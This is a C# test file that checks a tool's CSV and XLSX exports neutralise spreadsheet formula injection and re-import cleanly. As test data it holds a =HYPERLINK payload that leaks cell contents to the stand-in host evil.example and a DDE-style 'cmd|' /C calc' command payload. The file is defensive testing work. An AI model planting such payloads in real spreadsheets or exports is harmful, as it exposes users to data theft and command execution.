using System.IO.Compression;
using System.Text;
using Scrutineer.Application.Data;
using Scrutineer.Application.Exports;
using Scrutineer.Testing;

namespace Scrutineer.Reliability.Tests.Exports;

/// <summary>
/// Every spreadsheet export neutralises formula injection: a task whose text is <c>=HYPERLINK(…)</c> is exported to CSV as
/// <c>'=HYPERLINK(…)</c> (delivery export and the task listing), to XLSX as a text cell with no formula, and importing
/// the exported CSV again finds the same tasks unchanged (the apostrophe is taken off on the way in).
/// </summary>
public sealed class FormulaExportTests : IDisposable
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click for details\")";

    private readonly string folder = Directory.CreateTempSubdirectory("scrutineer-formula-export-").FullName;

    public void Dispose() => Directory.Delete(folder, recursive: true);

    [Theory]
    [MemberData(nameof(TestStore.Providers), MemberType = typeof(TestStore))]
    public async Task DeliveryExportAndListing_FormulaCells_WrittenAsTextAndReimportedUnchanged(StoreProvider provider)
    {
        await using var store = await TestStore.CreateAsync(provider);
        var plan = Path.Combine(folder, "burglary.csv");
        await File.WriteAllTextAsync(plan,
            "Burglary 4P plan\n"
            + "Strand,Task,How,Who,When,Task No,Status,Risk,Mitigation\n"
            + $"PREVENT,\"{Hyperlink.Replace("\"", "\"\"", StringComparison.Ordinal)}\",Two sessions per district,@SUM(1+1),Jun-24,1,Ongoing,,\n"
            + "PURSUE,Target prolific offenders,-2+3+cmd|' /C calc'!A0,SCD,Quarterly,2,At risk,\"+SUM(1,2)\",=1+1\n");
        var import = await Cli.RunAsync("delivery", "import", plan, "--strategy", "Crime Prevention Strategy 2021-2024", "--db", store.DbArgument);
        Assert.True(import.ExitCode == 0, import.Error);

        var csv = Path.Combine(folder, "export.csv");
        var export = await Cli.RunAsync("delivery", "export", "--format", "csv", "--out", csv, "--db", store.DbArgument);
        Assert.True(export.ExitCode == 0, export.Error);
        var text = await File.ReadAllTextAsync(csv);
        Assert.Contains(CsvCell.Write("'" + Hyperlink), text, StringComparison.Ordinal);
        Assert.Contains(",'@SUM(1+1),", text, StringComparison.Ordinal);
        Assert.Contains(",'-2+3+cmd|' /C calc'!A0,", text, StringComparison.Ordinal);
        Assert.Contains("\"'+SUM(1,2)\"", text, StringComparison.Ordinal);
        Assert.Contains(",'=1+1", text, StringComparison.Ordinal);
        Assert.All(Cells(text), c => Assert.False(c.Length > 0 && "=+-@\t".Contains(c[0], StringComparison.Ordinal), $"a cell starts with a formula: {c}"));

        var listing = await Cli.RunAsync("delivery", "tasks", "--format", "csv", "--db", store.DbArgument);
        Assert.True(listing.ExitCode == 0, listing.Error);
        Assert.Contains("'=HYPERLINK(", listing.Out, StringComparison.Ordinal);
        Assert.All(Cells(listing.Out), c => Assert.False(c.Length > 0 && "=+-@\t".Contains(c[0], StringComparison.Ordinal), $"a cell starts with a formula: {c}"));

        var xlsx = Path.Combine(folder, "export.xlsx");
        Assert.Equal(0, (await Cli.RunAsync("delivery", "export", "--format", "xlsx", "--out", xlsx, "--db", store.DbArgument)).ExitCode);
        using (var zip = ZipFile.OpenRead(xlsx))
        {
            var sheets = zip.Entries.Where(e => e.FullName.StartsWith("xl/worksheets/", StringComparison.Ordinal))
                .Select(e => new StreamReader(e.Open(), Encoding.UTF8).ReadToEnd()).ToList();
            Assert.DoesNotContain(sheets, s => s.Contains("<f>", StringComparison.Ordinal) || s.Contains("<x:f>", StringComparison.Ordinal));
            Assert.Contains(sheets, s => s.Contains("=HYPERLINK(", StringComparison.Ordinal) && s.Contains("inlineStr", StringComparison.Ordinal));
        }

        foreach (var file in new[] { csv, xlsx })
        {
            var again = await Cli.RunAsync("delivery", "import", file, "--db", store.DbArgument);
            Assert.True(again.ExitCode == 0, again.Error);
            Assert.Contains("0 tasks created, 0 updated, 2 unchanged", again.Out, StringComparison.Ordinal);
        }
    }

    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+44 1245 491491", "'+44 1245 491491")]
    [InlineData("-2.2", "-2.2")]
    [InlineData("+2.9", "+2.9")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("\r=1", "\"'\r=1\"")]
    [InlineData("Plain, with a comma", "\"Plain, with a comma\"")]
    [InlineData("'quoted already", "'quoted already")]
    public void Write_FormulaStart_ApostropheAddedAndReadTakesItOff(string value, string written)
    {
        Assert.Equal(written, CsvCell.Write(value));
        Assert.Equal(value, CsvCell.Read(CsvCell.Neutralise(value)));
    }

    /// <summary>Every cell of a CSV text, unquoted.</summary>
    private static IEnumerable<string> Cells(string text) =>
        Fuzzing.CsvRecords.Read(Encoding.UTF8.GetBytes(text)).SelectMany(r => r);
}
